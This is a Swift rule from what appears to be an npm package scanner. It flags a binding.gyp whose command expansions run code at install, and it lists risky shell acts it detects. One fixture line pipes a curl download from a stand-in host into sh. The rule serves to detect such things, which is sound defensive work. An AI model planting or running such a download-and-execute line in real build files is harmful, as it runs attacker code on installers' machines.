// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A `binding.gyp` appears, or runs commands while it is read.
package struct GypCommand: Rule {
    package init() {}

    package let card = RuleCard(
        id: "gyp-command", kind: .content, title: "Build file runs commands", severity: .moderate, confidence: .medium, status: .stable,
        revision: 4, group: "install",
        rationale:
            "npm runs node-gyp for any `binding.gyp`, with no script in package.json; `<!(…)` in it runs a command. Install scripts are looked for, this is not.",
        knownFalseAlarms: ["`<!(node -p …)` to find headers, which weighs next to nothing."],
        references: ["https://gyp.gsrc.io/docs/InputFormatReference.md#Command-Expansions"],
        fires: [
            RuleSample(
                "a download", .sample(["binding.gyp": #"{"targets":[{"target_name":"a","sources":["<!(curl -s http://a.test/x | sh)"]}]}"#])
            ),
            RuleSample(
                "a script of its own",
                .sample([
                    "binding.gyp": #"{"variables":{"x":"<!(node lib/setup.js)"},"targets":[{"target_name":"a","type":"none"}]}"#,
                    "lib/setup.js": "1",
                ])),
        ],
        staysSilent: [
            RuleSample(
                "headers of nan",
                .sample([
                    "binding.gyp":
                        #"{"targets":[{"target_name":"a","include_dirs":["<!(node -e \"require('nan')\")"],"sources":["a.cc"]}]}"#
                ]))
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let builds = facts.files.filter { $0.path == "binding.gyp" || $0.path.hasSuffix(".gypi") }
        guard let main = builds.first(where: { $0.path == "binding.gyp" }), main.scan != nil else { return [] }
        let read = GypFile(main.file.bytes)
        let size = main.file.bytes.count
        let commands = read.commands.map {
            (text: $0.text, range: min($0.offset, size)..<min($0.offset + max($0.text.utf8.count, 1), size))
        }
        let own = Self.starting(facts.files, commands)
        for command in commands {
            guard let what = Self.risk(command.text) else { continue }
            return [finding("binding.gyp runs a command that \(what)", 1, [main.evidence(command.range)])]
        }
        if !own.isEmpty {
            let hasSources = main.file.bytes.firstRange(of: Array(".c".utf8)) != nil
            return [
                finding(
                    "binding.gyp runs a script of the package while it is read\(hasSources ? "" : ", and builds nothing")",
                    hasSources ? 0.1 : 0.7,
                    own.map { main.evidence($0.range) })
            ]
        }
        guard main.change == .new, facts.release.previous?.content != nil else { return [] }
        return [
            finding("A binding.gyp appears: npm runs node-gyp at install", 0, [Evidence(file: main.path, excerpt: "new in this release")])
        ]
    }

    private func finding(_ title: String, _ strength: Double, _ evidence: [Evidence]) -> Finding {
        card.finding(
            title, strength: strength, evidence: evidence, meaning: "It runs at install although package.json names no install script.")
    }

    /// The commands that name a source file of the release, alone or behind folders (`<(module_root_dir)/lib/setup.js`). Names
    /// are looked up in one set, so that the time is that of reading the commands once.
    private static func starting(_ files: [FileFacts], _ commands: [(text: String, range: Range<Int>)]) -> [(
        text: String, range: Range<Int>
    )] {
        guard !commands.isEmpty else { return [] }
        var names: Set<String> = []
        for file in files where file.kind == .source {
            // Of a name with blanks or brackets the last word.
            guard let name = words(file.path).last else { continue }
            names.insert(String(name))
            // What Node finds without the ending; a bare `node` or `lib` is no file's name.
            for ending in [".js", ".cjs", ".mjs", "/index.js"] where name.hasSuffix(ending) && name.dropLast(ending.count).contains("/") {
                names.insert(String(name.dropLast(ending.count)))
            }
        }
        return commands.filter { command in
            words(command.text).contains { word in
                var name = ""
                for part in word.split(whereSeparator: { $0 == "/" || $0 == "\\" }).reversed().prefix(maximumParts) where part != "." {
                    name = name.isEmpty ? String(part) : "\(part)/\(name)"
                    if names.contains(name) { return true }
                }
                return false
            }
        }
    }

    /// Folders and name of the deepest file that is looked up.
    private static let maximumParts = 64

    private static func words(_ text: String) -> [Substring] {
        text.split(whereSeparator: { " \t\r,;&|()[]{}\"'`<>".contains($0) })
    }

    private static let acts: [ShellAct.Kind: String] = [
        .runsDownload: "runs what it downloads", .downloads: "reaches the network", .runsAddress: "runs code at an address",
        .sends: "sends data",
        .sendsByName: "sends data by looking up a name", .runsDecoded: "runs decoded text", .encodedCommand: "runs encoded text",
        .opensShell: "opens a shell to a host", .stays: "writes to start-up files", .destroys: "destroys files",
        .background: "goes on in the background",
    ]
    private static let risky: [Sign] = [.shellDownload, .networkModule, .networkCall, .pipesIntoShell, .runsText, .processModule]

    /// What a command does that no build needs.
    private static func risk(_ text: String) -> String? {
        let facts = ShellText.read(text.utf8)
        if let act = facts.acts.first(where: { acts[$0.kind] != nil }) { return acts[act.kind] }
        for code in facts.code {
            let signs = TextScan(ArraySlice(code.text.utf8)).allSigns
            if let sign = risky.first(where: signs.contains) {
                return sign == .processModule || sign == .runsText ? "starts other code" : "reaches the network"
            }
        }
        return nil
    }
}
